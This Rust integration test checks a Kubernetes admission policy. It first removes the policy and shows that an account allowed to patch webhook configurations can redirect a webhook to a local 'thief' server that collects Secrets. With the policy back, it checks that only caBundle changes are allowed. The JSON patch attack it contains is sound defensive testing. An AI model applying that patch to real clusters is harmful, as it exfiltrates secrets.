//! The right to patch a webhook configuration is the right to read the cluster, but for the policy.

use std::sync::{Arc, Mutex};

use axum::Router;
use base64::Engine;
use base64::prelude::BASE64_STANDARD;
use bytes::Bytes;
use ecr_admission::certificate::{CertificatePair, ServedCertificate};
use ecr_admission::clock::Clock;
use ecr_admission::server::listener::Limits;
use serde_json::{Value, json};

use crate::harness::control_plane::{ControlPlane, Said};
use crate::harness::install::{apply, manifest};
use crate::harness::namespace::Namespace;
use crate::harness::{eventually, in_shared_cluster};
use crate::https::{Server, development_ca};
use crate::pki::TestCa;

/// A configuration beside ours, which other tests need; our account has the same rights to it.
const CONFIGURATION: &str = "zz-probed";
const KINDS: [&str; 2] = [
    "mutatingwebhookconfigurations",
    "validatingwebhookconfigurations",
];

fn path(kind: &str) -> String {
    format!("/apis/admissionregistration.k8s.io/v1/{kind}/{CONFIGURATION}")
}

struct Bench<'a> {
    plane: &'a ControlPlane,
    token: String,
}

impl Bench<'_> {
    async fn patch(&self, kind: &str, operations: &Value, more: &[&str]) -> Said {
        let operations = operations.to_string();
        let patch = [
            "patch",
            kind,
            CONFIGURATION,
            "--type=json",
            "-p",
            &operations,
        ];
        let arguments = [&patch[..], &["--token", &self.token], more].concat();
        self.plane.kubectl(&arguments, "").await
    }

    /// Whether our account is told that it may not, by the policy.
    async fn is_refused(&self, kind: &str, operations: &Value) -> bool {
        let said = self.patch(kind, operations, &[]).await;
        let why = "may change nothing of a webhook configuration but the caBundle of its webhooks";
        assert!(said.ok || said.err.contains(why), "{said:?}");
        !said.ok
    }

    async fn configuration(&self, kind: &str) -> Value {
        self.plane.api.get(&path(kind)).await.unwrap()
    }

    /// Our shipped configurations under another name, for one namespace, and our shipped rights to them.
    async fn install(&self, namespace: &str) {
        let mut objects = manifest("webhooks.yaml");
        for object in &mut objects {
            for webhook in object["webhooks"].as_array_mut().unwrap() {
                webhook["namespaceSelector"] =
                    json!({"matchLabels": {"kubernetes.io/metadata.name": namespace}});
            }
        }
        objects.extend(
            manifest("certificates.yaml")
                .into_iter()
                .filter(|object| object["kind"].as_str().unwrap().starts_with("ClusterRole")),
        );
        let objects = serde_json::to_string(&objects).unwrap();
        let objects = objects
            .replace("zz-ecr-admission", CONFIGURATION)
            .replace("ecr-admission-certificates", CONFIGURATION);
        apply(self.plane, serde_json::from_str(&objects).unwrap()).await;
    }
}

/// A server of somebody who collects what the API server sends, its URL, and what he makes of the account's right.
async fn thief(namespace: &str) -> (Arc<Mutex<String>>, Server, Value) {
    let loot = Arc::new(Mutex::new(String::new()));
    let bag = Arc::clone(&loot);
    let router = Router::new().fallback(move |body: Bytes| async move {
        let text = String::from_utf8_lossy(&body).into_owned();
        bag.lock().unwrap().push_str(&text);
    });
    let ca = development_ca();
    let pair = CertificatePair::check(&ca.pem_pair(), &[], Clock::system().now()).unwrap();
    let resolver = ServedCertificate::new(pair);
    let server = Server::with_certificate(resolver, router, Limits::default()).await;
    let attack = json!([{"op": "replace", "path": "/webhooks/0", "value": {
        "name": "pods.ecr-admission.dev",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Ignore",
        "clientConfig": {
            "url": format!("https://localhost:{}/", server.address.port()),
            "caBundle": BASE64_STANDARD.encode(&ca.ca_pem),
        },
        "rules": [{
            "apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["secrets"],
        }],
        "namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": namespace}},
    }}]);
    (loot, server, attack)
}

#[test]
fn without_the_policy_our_account_could_read_secrets_and_with_it_only_the_bundle_changes() {
    in_shared_cluster(async |cluster| {
        let plane = &cluster.plane;
        let bench = Bench {
            token: plane.token().await,
            plane,
        };
        let namespace = Namespace::create(plane, "attacked").await;
        bench.install("attacked").await;
        let binding = manifest("ca-bundle-policy.yaml").pop().unwrap();
        assert_eq!(binding["kind"], "ValidatingAdmissionPolicyBinding");
        let bound = "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicybindings/\
                     ecr-admission-ca-bundle";
        plane.api.delete(bound).await.unwrap();
        let (loot, _server, attack) = thief("attacked").await;
        eventually("the attack succeeds without the policy", async || {
            !bench.is_refused(KINDS[0], &attack).await
        })
        .await;
        eventually("a Secret is stolen", async || {
            let name = format!("loot-{}", fastrand::u32(..));
            let secret =
                json!({"metadata": {"name": name}, "stringData": {"key": "the-crown-jewels"}});
            let secrets = namespace.path("secrets");
            namespace.api().create(&secrets, &secret).await.unwrap();
            let jewels = BASE64_STANDARD.encode("the-crown-jewels");
            loot.lock().unwrap().contains(&jewels)
        })
        .await;

        for kind in KINDS {
            plane.api.delete(&path(kind)).await.unwrap();
        }
        bench.install("attacked").await;
        apply(plane, vec![binding]).await;
        eventually("the policy holds", async || {
            let dry = bench.patch(KINDS[0], &attack, &["--dry-run=server"]).await;
            !dry.ok
        })
        .await;
        assert!(bench.is_refused(KINDS[0], &attack).await);
        nothing_else_can_be_changed(&bench).await;
        the_bundle_can(&bench).await;
    });
}

fn replace(path: &str, value: impl Into<Value>) -> Value {
    json!([{"op": "replace", "path": path, "value": value.into()}])
}

/// Every field that there is, and the list of webhooks itself. Taking the port away changes nothing: it is the default.
async fn nothing_else_can_be_changed(bench: &Bench<'_>) {
    let before = bench.configuration(KINDS[1]).await;
    let hooks = &before["webhooks"];
    let bundle = BASE64_STANDARD.encode(TestCa::new().pem());
    let mut attempts = vec![
        replace("/webhooks", json!([hooks[1], hooks[0]])),
        replace("/webhooks", json!([hooks[0]])),
        replace("/webhooks", json!([])),
        replace(
            "/webhooks",
            json!([hooks[0], hooks[1], replaced_name(&hooks[0])]),
        ),
        json!([{"op": "remove", "path": "/webhooks/0/matchConditions"}]),
        json!([{"op": "remove", "path": "/webhooks/0/clientConfig/service/path"}]),
        json!([{"op": "add", "path": "/metadata/labels/a", "value": "b"}]),
        json!([{"op": "add", "path": "/metadata/annotations", "value": {"a": "b"}}]),
        json!([{"op": "add", "path": "/metadata/finalizers", "value": ["example.com/held"]}]),
        json!([
            {"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle},
            {"op": "replace", "path": "/webhooks/1/clientConfig/service/name", "value": "other"},
        ]),
    ];
    for (field, value) in [
        ("name", json!("other.ecr-admission.dev")),
        (
            "clientConfig",
            json!({"url": "https://localhost:1/", "caBundle": bundle}),
        ),
        ("clientConfig/service/name", json!("other")),
        ("clientConfig/service/namespace", json!("attacked")),
        ("clientConfig/service/path", json!("/other")),
        ("clientConfig/service/port", json!(8443)),
        ("rules/0/resources", json!(["*"])),
        ("rules/0/operations", json!(["*"])),
        ("rules/0/scope", json!("Namespaced")),
        ("matchConditions/0/expression", json!("true")),
        ("namespaceSelector", json!({})),
        ("objectSelector", json!({"matchLabels": {"a": "b"}})),
        ("failurePolicy", json!("Fail")),
        ("matchPolicy", json!("Exact")),
        ("sideEffects", json!("None")),
        ("timeoutSeconds", json!(30)),
        ("admissionReviewVersions", json!(["v1", "v1beta1"])),
    ] {
        attempts.push(replace(&format!("/webhooks/0/{field}"), value));
    }
    for attempt in &attempts {
        assert!(bench.is_refused(KINDS[1], attempt).await, "{attempt}");
    }
    let again = replace("/webhooks/0/reinvocationPolicy", "Never");
    assert!(bench.is_refused(KINDS[0], &again).await);
    assert_eq!(bench.configuration(KINDS[1]).await, before);
}

fn replaced_name(webhook: &Value) -> Value {
    let mut other = webhook.clone();
    other["name"] = json!("other.ecr-admission.dev");
    other
}

async fn the_bundle_can(bench: &Bench<'_>) {
    let bundle = BASE64_STANDARD.encode(TestCa::new().pem());
    for kind in KINDS {
        let mut expected = bench.configuration(kind).await;
        let count = expected["webhooks"].as_array().unwrap().len();
        for index in 0..count {
            let path = format!("/webhooks/{index}/clientConfig/caBundle");
            let add = json!([{"op": "add", "path": path, "value": bundle}]);
            assert!(!bench.is_refused(kind, &add).await);
            expected["webhooks"][index]["clientConfig"]["caBundle"] = json!(bundle);
        }
        let after = bench.configuration(kind).await;
        assert_eq!(after["webhooks"], expected["webhooks"]);
        let remove = json!([{"op": "remove", "path": "/webhooks/0/clientConfig/caBundle"}]);
        assert!(!bench.is_refused(kind, &remove).await);
    }
}
